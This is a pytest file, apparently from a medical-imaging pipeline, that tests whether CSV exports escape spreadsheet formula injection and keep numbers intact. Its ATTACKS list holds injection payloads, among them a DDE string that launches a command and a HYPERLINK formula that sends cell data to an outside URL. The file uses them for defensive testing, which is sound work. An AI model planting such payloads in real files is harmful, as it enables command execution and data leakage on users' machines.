"""No text in a CSV file of ours is a formula to a spreadsheet, numbers stay numbers, and we read back what was written."""

import csv
import re

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from dicom_pipeline.cli.app import app
from dicom_pipeline.config import load_settings
from dicom_pipeline.research.probes.truth import read_truth
from dicom_pipeline.results.csv_files import (
    escape_formulas,
    keep_formulas,
    read_csv,
    restore_formulas,
    write_csv,
    write_tables,
)
from tests.test_house import PACKAGE

ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://x/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    '"=1+1',
    "a;=1+1;b",
    'a;"=1+1";b',
    "a\n=1+1",
    "a\t@x",
    "\uff1d1+1",
    "'=1+1",
    "-0.5",
]
texts = st.text(st.sampled_from("=+-@\t\r\n\0;,'\" a\uff0b1"), max_size=12) | st.text(max_size=20)


def formulas(text: str) -> list[str]:
    """The cells of a text that a spreadsheet could run, however it splits: what OWASP lists, behind blanks and quotes."""
    cells = re.split("[;\t\r\n]", text)
    return [c for c in cells if c.lstrip(' "')[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_attacks_is_escaped(text):
    assert text.startswith("'") or formulas(text)
    assert not formulas(escape_formulas(text))
    assert restore_formulas(escape_formulas(text)) == text


@given(texts)
def test_no_text_is_a_formula_and_each_is_restored(text):
    escaped = escape_formulas(text)
    assert not formulas(escaped)
    assert escaped[:1] not in tuple("\t\r\n\0")
    assert restore_formulas(escaped) == text
    assert restore_formulas(keep_formulas(text)) == text


@pytest.mark.parametrize("text", ["", "Nodule", "1.2.840.10008", "a-b", "CT; contrast", "it's", "a = b", "5'"])
def test_other_texts_are_as_they_were(text):
    assert escape_formulas(text) == keep_formulas(text) == text


@given(st.lists(st.tuples(texts, st.floats(allow_nan=False), texts), min_size=1, max_size=5), st.booleans())
def test_a_file_gives_back_its_texts_and_numbers(tmp_path_factory, rows, escape):
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    columns = ("=label", "value", "note")
    write_csv(path, columns, [dict(zip(columns, row, strict=True)) for row in rows], escape=escape)
    assert [(r["=label"], float(r["value"]), r["note"]) for r in read_csv(path)] == rows


def test_numbers_are_numbers_and_nothing_is_empty(tmp_path):
    write_csv(tmp_path / "x.csv", ("a", "b", "c"), [{"a": -0.5, "b": "-0.5", "c": None, "d": "more"}, {"a": -3}])
    assert (tmp_path / "x.csv").read_text().splitlines() == ['"a","b","c"', '-0.5,"\'-0.5",""', '-3,"",""']
    assert pd.read_csv(tmp_path / "x.csv")["a"].tolist() == [-0.5, -3]


@pytest.mark.parametrize("escape", [True, False])
def test_arrow_tables_are_written_the_same_way(tmp_path, escape):
    table = pa.table({"label": ["=1+1", None, "x"], "value": [-0.5, 1e-7, None], "=odd": ["\t", "-", ""]})
    write_tables(tmp_path / "x.csv", [table, table], escape=escape)
    with (tmp_path / "x.csv").open(newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [r["label"] for r in rows] == (["'=1+1", "", "x"] if escape else ["=1+1", "", "x"]) * 2
    assert [r["value"] for r in rows][:2] == ["-0.5", "1e-7"]
    assert [r["'=odd" if escape else "=odd"] for r in rows][:2] == (["'\t", "'-"] if escape else ["\t", "-"])
    assert [r["=odd"] for r in read_csv(tmp_path / "x.csv")] == ["\t", "-", ""] * 2


def test_a_truth_table_may_have_labels_as_our_csv_has_them(tmp_path):
    write_csv(tmp_path / "t.csv", ("study_instance_uid", "-label"), [{"study_instance_uid": "1.2", "-label": 1}])
    truth = read_truth(tmp_path / "t.csv")
    assert (truth.labels, truth.rows) == (("-label",), {("1.2",): {"-label": 1.0}})


def test_what_is_not_csv_is_a_value_error(tmp_path):
    (tmp_path / "x.csv").write_text("a\n" + "x" * (csv.field_size_limit() + 1))
    with pytest.raises(ValueError, match=r"x\.csv is not CSV"):
        list(read_csv(tmp_path / "x.csv"))


def test_nothing_else_writes_csv():
    wrote = r"csv\.writer|DictWriter|to_csv|CSVWriter|csv\.write_csv|savetxt"
    writers = {path.name for path in PACKAGE.rglob("*.py") if re.search(wrote, path.read_text())}
    assert writers - {"exporter.py"} == {"csv_files.py"}
    assert "csv_files.write_csv" in (PACKAGE / "research" / "export" / "exporter.py").read_text()


LABELS = """
version = "1"
kind = "zero-shot-sigmoid"
[[label]]
name = "=HYPERLINK(1)"
positive = ["a chest radiograph"]
"""


@pytest.mark.parametrize("escape", [True, False])
def test_a_label_is_no_formula_in_what_process_and_export_write(tmp_path, sample_data, monkeypatch, escape):
    """The shipped commands, from label set to scores.csv, to the store and to an export, and the setting that keeps it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "labels.toml").write_text(LABELS)
    text = "" if escape else "[results]\nescape_formulas = false\n"
    (tmp_path / "pipeline.toml").write_text(f'{text}[scoring]\nlabel_set = "labels.toml"\n')
    study = str(sample_data / "studies" / "cr-chest-normal")
    for words in (
        ["process", study, "--out", "out", "--config", "pipeline.toml"],
        ["export", "--from", "out", "--out", "cohort", "--format", "csv", "--config", "pipeline.toml", "--identified"],
        ["export", "--from", "out", "--out", "pooled", "--level", "study", "--config", "pipeline.toml"],
    ):
        result = CliRunner().invoke(app, words)
        assert result.exit_code == 0, result.output
    written = "'=HYPERLINK(1)" if escape else "=HYPERLINK(1)"
    for folder in ("out", "cohort", "pooled"):
        assert set(pd.read_csv(tmp_path / folder / "scores.csv")["label"]) == {written}
        assert {row["label"] for row in read_csv(tmp_path / folder / "scores.csv")} == {"=HYPERLINK(1)"}
    assert pd.read_csv(tmp_path / "cohort" / "embeddings.csv")["embedding_0"].dtype == float
    assert load_settings(tmp_path / "pipeline.toml").results.escape_formulas is escape
